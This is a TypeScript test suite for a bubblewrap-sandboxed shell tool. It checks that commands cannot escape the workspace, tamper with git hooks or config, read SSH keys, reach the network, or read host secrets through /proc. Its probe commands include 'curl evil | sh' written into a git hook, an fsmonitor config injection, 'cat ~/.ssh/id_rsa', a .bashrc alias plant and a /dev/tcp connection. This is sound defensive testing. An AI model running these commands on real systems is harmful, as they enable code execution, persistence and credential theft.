import { createServer } from "node:net";
import { cp, lstat, mkdir, readFile, symlink, writeFile } from "node:fs/promises";
import { homedir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { execFileSync } from "node:child_process";
import { Shell } from "../tools/shell.js";
import { Jobs } from "../tools/jobs.js";
import { eventually, pinned, type Sandbox, sandbox } from "../tools/test-helpers.js";
import { skipWithoutBwrap } from "./test-helpers.js";

const CANARY = `sk-planted-${Math.random().toString(36).slice(2)}`;
let box: Sandbox;
const shell = new Shell({ killGraceMs: 300 });

beforeEach(async () => {
  box = await sandbox();
});
afterEach(async () => {
  await box.cleanup();
});

async function exists(path: string): Promise<boolean> {
  return lstat(path).then(
    () => true,
    () => false,
  );
}

describe.skipIf(skipWithoutBwrap("the sandbox escape tests"))("Shell with the default sandbox", () => {
  describe("when a command writes inside the workspace", () => {
    it("works, and $TMPDIR is a private, writable tmpfs", async () => {
      const out = await shell.call({ command: 'echo hi > made.txt && mktemp -p "$TMPDIR" x.XXXX' }, box.ctx);
      expect(out.isError).toBe(false);
      expect(await readFile(join(box.root, "made.txt"), "utf8")).toBe("hi\n");
      expect(out.textContent().startsWith("/tmp/sandbox/x.")).toBe(true);
    });

    it("keeps the session temp dir read-only, so nothing is left in it after dispose", async () => {
      const out = await shell.call({ command: `echo big > '${box.ctx.tempDir}/left.bin'` }, box.ctx);
      expect(out.isError).toBe(true);
      expect(await exists(join(box.ctx.tempDir, "left.bin"))).toBe(false);
    });
  });

  describe("when a command writes outside the writable places", () => {
    it.each([
      ["a path beside the workspace", (b: Sandbox) => join(b.root, "..", "outside.txt")],
      ["$HOME", () => join(homedir(), `sandbox-probe-${process.pid}-${Date.now()}`)],
      ["/tmp outside ctx.tempDir", () => `/tmp/sandbox-probe-${process.pid}-${Date.now()}`],
      ["/etc", () => `/etc/sandbox-probe-${process.pid}`],
    ])("refuses %s and changes nothing", async (_what, target) => {
      const path = target(box);
      const out = await shell.call({ command: `echo pwned > '${path}'` }, box.ctx);
      expect(out.isError).toBe(true);
      expect(await exists(path)).toBe(false);
    });

    it("refuses a write through a symlink in the workspace that points outside", async () => {
      const outside = join(box.root, "..", "outside");
      await mkdir(outside);
      await symlink(outside, join(box.root, "link"));
      await symlink(homedir(), join(box.root, "home-link"));
      const probe = `sandbox-probe-${process.pid}-${Date.now()}`;
      const out = await shell.call(
        { command: `echo a > link/${probe}; echo b > home-link/${probe}; exit 0` },
        box.ctx,
      );
      expect(pinned(out)).toMatch(/No such file or directory|Read-only file system/);
      expect(await exists(join(outside, probe))).toBe(false);
      expect(await exists(join(homedir(), probe))).toBe(false);
    });

    it("keeps .git/hooks and .git/config read-only while git itself works", async () => {
      execFileSync("git", ["init", "-q", box.root]);
      const config = await readFile(join(box.root, ".git/config"), "utf8");
      const out = await shell.call(
        {
          command:
            "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config; touch f && git add f && git status --short",
        },
        box.ctx,
      );
      expect(pinned(out)).toContain("A  f\n");
      expect(pinned(out)).toContain(".git/hooks/pre-commit: Read-only file system");
      expect(await exists(join(box.root, ".git/hooks/pre-commit"))).toBe(false);
      expect(await readFile(join(box.root, ".git/config"), "utf8")).toBe(config);
    });

    it("names the policy that stopped it", async () => {
      const out = await shell.call({ command: "touch /etc/x" }, box.ctx);
      expect(out.isError).toBe(true);
      expect(out.textContent().split("\n").at(-1)).toBe(
        `[sandbox: only ${box.root}, $TMPDIR are writable (policy workspace-write; git hooks, git config and shell rc files stay read-only)]`,
      );
    });
  });

  describe("when a command reads credentials", () => {
    it("sees ~/.ssh empty, even inside the workspace, and cannot write shell rc files there", async () => {
      const home = join(box.root, "home");
      await mkdir(join(home, ".ssh"), { recursive: true });
      await writeFile(join(home, ".ssh", "id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n");
      await writeFile(join(home, ".bashrc"), "# rc\n");
      const withHome = new Shell({ env: { ...process.env, HOME: home } });
      const out = await withHome.call(
        { command: 'cat ~/.ssh/id_rsa; ls -A ~/.ssh; echo "alias ls=evil" >> ~/.bashrc' },
        box.ctx,
      );
      expect(out.textContent()).not.toContain("secret");
      expect(out.textContent()).toContain(".ssh/id_rsa: No such file or directory");
      expect(out.textContent().split("\n").at(-1)).toBe(
        `[sandbox: ${home}/.ssh is hidden from commands (policy denyRead); it reads as empty]`,
      );
      expect(await readFile(join(home, ".bashrc"), "utf8")).toBe("# rc\n");
      expect(await readFile(join(home, ".ssh", "id_rsa"), "utf8")).toContain("secret");
    });
  });

  describe("when a command reaches for the network", () => {
    it("cannot connect to a server on the host's 127.0.0.1", async () => {
      let connections = 0;
      const server = createServer((socket) => {
        connections++;
        socket.end("hello\n");
      });
      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
      const { port } = server.address() as { port: number };
      try {
        const out = await shell.call({ command: `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3` }, box.ctx);
        expect(out.isError).toBe(true);
        expect(out.textContent()).toContain("Connection refused");
        expect(out.textContent().split("\n").at(-1)).toBe(
          '[sandbox: the network is off for commands (policy network "none")]',
        );
        expect(connections).toBe(0);
      } finally {
        server.close();
      }
    });

    it("cannot resolve a public name", async () => {
      const out = await shell.call({ command: "getent hosts registry.npmjs.org", timeout_s: 20 }, box.ctx);
      expect(out.isError).toBe(true);
      expect(out.textContent()).toMatch(/^\[exit 2, \d+ ms\]/);
    });
  });

  describe("when a command looks for the host through /proc", () => {
    beforeEach(() => {
      process.env.OPENAI_API_KEY = CANARY;
    });
    afterEach(() => {
      delete process.env.OPENAI_API_KEY;
    });

    it("sees only the sandbox's own processes and none of the host's environment", async () => {
      const command = [
        `cat /proc/$PPID/environ /proc/1/environ /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c '${CANARY}'`,
        `cat /proc/${process.pid}/environ 2>&1 | head -1`,
        "ls /proc/1/root/ | head -3 >/dev/null",
        `echo x > /proc/1/root${homedir()}/sandbox-probe; ls /proc/1/root${box.root}/.. | grep -c ws`,
        "ls -d /proc/[0-9]* | wc -l",
      ].join("; ");
      const out = await shell.call({ command }, box.ctx);
      const text = out.textContent();
      expect(text.split("\n")[0]).toBe("0");
      expect(text).toContain(`/proc/${process.pid}/environ: No such file or directory`);
      expect(text).toContain("Read-only file system");
      expect(await exists(join(homedir(), "sandbox-probe"))).toBe(false);
      // Inside: bubblewrap's init, bash, ls and wc; the host's processes are not there.
      expect(Number(text.split("\n")[3])).toBeLessThanOrEqual(5);
    });

    it("a background job cannot read the host's environment either", async () => {
      const jobs = new Jobs();
      await shell.call(
        {
          command: `cat /proc/$PPID/environ /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c '${CANARY}'; ls /proc | grep -c '^${process.pid}$'`,
          background: true,
        },
        box.ctx,
      );
      let text = "";
      await eventually(async () => {
        const t = (await jobs.call({ operation: "output", job_id: "job-1" }, box.ctx)).textContent();
        const body = t.slice(0, t.lastIndexOf("[job-1"));
        text += body === "(no new output)\n" ? "" : body;
        return t.includes("exit") ? true : undefined;
      });
      expect(text).toBe("0\n0\n");
    });
  });

  describe("when the playground's sample tests run", () => {
    it("node --test gives the same results as unsandboxed", async () => {
      const sample = join(import.meta.dirname, "../../../../apps/playground/sample");
      await cp(sample, box.root, { recursive: true });
      const counts = (text: string) => text.split("\n").filter((l) => /^# (tests|pass|fail) \d+$/.test(l));
      const inside = await shell.call(
        { command: "node --test --test-reporter=tap", timeout_s: 120 },
        box.ctx,
      );
      const outside = await new Shell({ sandbox: "off" }).call(
        { command: "node --test --test-reporter=tap", timeout_s: 120 },
        box.ctx,
      );
      expect(counts(inside.textContent())).toEqual(counts(outside.textContent()));
      expect(counts(inside.textContent())).toHaveLength(3);
    });
  });
});
